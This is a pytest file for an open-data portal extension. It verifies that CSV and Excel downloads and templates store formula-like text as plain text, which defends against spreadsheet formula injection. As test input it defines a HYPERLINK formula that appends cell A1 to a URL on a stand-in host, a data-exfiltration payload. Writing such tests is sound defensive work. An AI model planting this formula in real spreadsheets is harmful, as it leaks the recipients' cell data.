"""Every CSV and Excel file we generate keeps text as text: a title, a
component name or a value such as ``=HYPERLINK("http://evil","klik")`` must
not become a formula when a citizen opens the download or an operator opens
the template.

Before the fix the public CSV download wrote text cells as they were (this
test failed: ``=HYPERLINK…`` unprefixed) and the Excel template wrote the
dataset title and the component names as formulas (failed: the cells'
``data_type`` was ``f``). The Excel download already stored text as
text; its test keeps it so. Pure Python, no database."""

from __future__ import annotations

import csv
import dataclasses
import io
import zipfile

import openpyxl
import pytest

from ckanext.satudata.indicators import template
from ckanext.satudata.spreadsheet import csv_value, write_cell
from ckanext.satudata.workflow import downloads
from tests.indicators.sheets import make_grid

EVIL = '=HYPERLINK("http://contoh.invalid/?d="&A1,"klik")'


@pytest.mark.parametrize(("value", "expected"), [
    ("=1+1", "'=1+1"),
    ("+62 24 351", "'+62 24 351"),
    ("-", "'-"),
    ("@SUM(A1)", "'@SUM(A1)"),
    ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"),
    ("Semarang Tengah", "Semarang Tengah"),
    ("1=1", "1=1"),
    ("", ""),
    (-5, -5),
    (3.5, 3.5),
    (None, None),
])
def test_csv_values(value: object, expected: object) -> None:
    assert csv_value(value) == expected


def test_a_cell_gets_text_never_a_formula() -> None:
    sheet = openpyxl.Workbook().active
    assert write_cell(sheet["A1"], EVIL).data_type == "s"
    assert write_cell(sheet["A2"], -12).data_type == "n"
    assert write_cell(sheet["A3"], None).value is None


FIELDS = [
    {"id": "kecamatan", "label": "Kecamatan", "heading": "=Kecamatan",
     "unit": "", "type": "text"},
    {"id": "jumlah", "label": "Jumlah", "heading": "Jumlah (Orang)",
     "unit": "Orang", "type": "integer"},
]
RECORDS = [{"kecamatan": EVIL, "jumlah": -3}, {"kecamatan": "Genuk", "jumlah": 7}]


def test_public_csv_download_neutralises_formulas() -> None:
    text = downloads.to_csv(FIELDS, RECORDS).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["'" + EVIL, "-3"]
    assert rows[2] == ["Genuk", "7"]


def _formulas(data: bytes) -> list[str]:
    """Names of the workbook's XML parts that hold a formula element."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return [
            name for name in archive.namelist()
            if name.endswith(".xml") and b"<f>" in archive.read(name)
        ]


def test_public_excel_download_has_no_formula() -> None:
    data = downloads.to_xlsx({"title": EVIL, "organization": "=OPD"},
                             FIELDS, RECORDS)
    assert _formulas(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))[downloads.SHEET]
    assert sheet["A1"].value == "=Kecamatan" and sheet["A1"].data_type == "s"
    assert sheet["A2"].value == EVIL and sheet["A2"].data_type == "s"
    assert sheet["B2"].value == -3


def test_excel_template_writes_title_and_component_names_as_text() -> None:
    grid = make_grid()
    components = tuple(
        dataclasses.replace(component, name="=" + component.name)
        for component in grid.structure.components
    )
    grid = dataclasses.replace(
        grid, title=EVIL,
        structure=dataclasses.replace(grid.structure, components=components),
    )
    data = template.build_template(grid, {})
    assert _formulas(data) == []
    sheet = openpyxl.load_workbook(io.BytesIO(data))[template.SHEET]
    assert sheet["A1"].value == EVIL and sheet["A1"].data_type == "s"
    headers = [cell for cell in sheet[template.HEADER_ROW] if cell.value]
    assert any(str(cell.value).startswith("=") for cell in headers)
    assert all(cell.data_type == "s" for cell in headers)
